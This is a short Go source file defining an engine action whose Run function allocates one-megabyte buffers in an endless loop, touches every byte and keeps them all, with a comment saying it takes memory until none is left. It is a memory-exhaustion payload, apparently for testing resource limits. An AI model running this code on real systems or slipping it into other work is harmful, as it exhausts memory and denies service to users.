package action

// Takes memory until there is none.

import "codeactions/engine"

func Run(e *engine.Engine) error {
	var kept [][]byte
	for {
		piece := make([]byte, 1<<20)
		for i := range piece {
			piece[i] = 1
		}
		kept = append(kept, piece)
	}
}
